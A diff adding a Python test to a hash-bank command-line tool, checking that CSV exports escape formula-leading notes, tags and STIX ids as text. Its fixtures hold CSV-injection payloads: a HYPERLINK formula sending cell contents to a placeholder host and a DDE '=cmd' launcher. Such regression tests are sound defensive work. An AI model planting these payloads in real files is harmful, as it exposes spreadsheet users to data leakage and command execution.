@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import shutil
 from pathlib import Path
@@ -299,3 +301,50 @@ def test_a_page_added_to_a_bank_matches_its_edited_copy_by_its_text(
     copy.write_bytes(page.read_bytes() + b"<!-- republished elsewhere -->")
     (item,) = json_lines(run("scan", "--json", str(copy)).output)
     assert [m["signal_type"] for m in item["matches"]] == ["text"]  # type: ignore[union-attr]
+
+
+def test_exports_never_carry_a_formula(demo_bank: Cli, tmp_path: Path) -> None:
+    """CSV injection (OWASP): a note or a tag starting with = + - @ (typed, imported from a
+    CSV, or an id imported from a STIX bundle) is exported as text, and reads back the same."""
+    csv_file = tmp_path / "entries.csv"
+    csv_file.write_text(
+        "signal_type,value,tags,note\n"
+        f'md5,{"c" * 32},,"=HYPERLINK(""https://exemple.test/?""&A1,""clic"")"\n'
+        f"md5,{'d' * 32},,+1\n"
+        f"md5,{'f' * 32},,@SUM(1+1)\n",
+        encoding="utf-8",
+    )
+    assert demo_bank("bank", "import", "demo", str(csv_file)).exit_code == 0
+    bundle = tmp_path / "bundle.json"
+    bundle.write_text(
+        json.dumps(
+            {
+                "type": "bundle",
+                "id": "bundle--1",
+                "objects": [
+                    {
+                        "type": "indicator",
+                        "id": "=cmd|' /C calc'!A0",
+                        "pattern": f"[file:hashes.MD5 = '{'e' * 32}']",
+                        "labels": ["-2+3"],
+                    }
+                ],
+            }
+        ),
+        encoding="utf-8",
+    )
+    imported = demo_bank("bank", "import", "demo", str(bundle), "--format", "stix")
+    assert imported.exit_code == 0, imported.output
+    exported = demo_bank("bank", "export", "demo").output
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1+1)" in cells and "'+1" in cells
+    assert "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    # Our own export reads back with the notes as they were.
+    again = tmp_path / "again.csv"
+    again.write_text(exported, encoding="utf-8")
+    assert demo_bank("bank", "create", "copie").exit_code == 0
+    assert demo_bank("bank", "import", "copie", str(again)).exit_code == 0
+    copied = demo_bank("bank", "export", "copie").output.splitlines()
+    # The STIX tag "-2+3" is no valid tag for a CSV import: that line alone is refused.
+    assert sorted(copied) == sorted(line for line in exported.splitlines() if "e" * 32 not in line)
